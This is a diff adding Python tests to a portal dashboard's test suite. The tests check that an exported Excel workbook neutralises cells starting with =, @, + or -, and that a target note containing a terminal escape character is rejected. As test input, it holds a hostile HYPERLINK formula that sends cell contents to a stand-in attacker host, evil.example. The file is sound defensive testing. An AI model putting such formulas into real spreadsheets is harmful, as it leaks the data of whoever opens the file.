@@ -3,14 +3,18 @@ the dashboard's target table is real, on SQLite here and on PostgreSQL in test_t
 
 from __future__ import annotations
 
+import io
 import json
 from typing import Any
 
 import httpx
+import openpyxl
 from fastapi.testclient import TestClient
 
 from ocop_kit.auth import decode_token
 from ocop_portal.app import create_app
+from ocop_portal.dashboard.excel import stats_workbook
+from ocop_portal.dashboard.service import Breakdown
 
 STATS = {
     "products_total": 12,
@@ -126,6 +130,28 @@ def test_excel_download_passes_the_registry_workbook_through(
     answer = client.get("/dashboard/stats.xlsx")
     assert answer.status_code == 200 and answer.content == b"PK\x03\x04workbook"
     assert "attachment" in answer.headers["content-disposition"]
+
+
+def test_portal_built_workbook_cells_cannot_carry_formulas() -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    breakdown = Breakdown("by_commune", ("Xã/phường", "Commune"), [(hostile, 3.0), ("-2+3", 1.5)])
+    content = stats_workbook("@Thống kê", [("+ Tổng", 4)], [breakdown])
+    book = openpyxl.load_workbook(io.BytesIO(content))
+    assert [c.value for c in book["Tong hop"]["A"]] == ["'@Thống kê", "'+ Tổng"]
+    rows = list(book["commune"].iter_rows(min_row=2, values_only=True))
+    assert rows == [("'" + hostile, 3), ("'-2+3", 1.5)]
+    assert {c.data_type for c in book["commune"]["A"]} == {"s"}
+
+
+def test_target_note_with_control_characters_is_refused(
+    client: TestClient, stubs: Any, sign_in: Any
+) -> None:
+    sign_in("province_officer", province_code="37")
+    target = {"province_code": "37", "year": "2026", "target_products": "40"}
+    refused = client.post("/dashboard/target", data={**target, "note": "KH\x1b[31m 2026"})
+    assert refused.status_code == 422 and "U+001B" in refused.text
+    saved = client.post("/dashboard/target", data={**target, "note": " KH 2026\r\ndòng 2 "})
+    assert saved.status_code == 303
 
 
 def stub_scoring_screen(stubs: Any, session: dict[str, Any], application: dict[str, Any]) -> None:
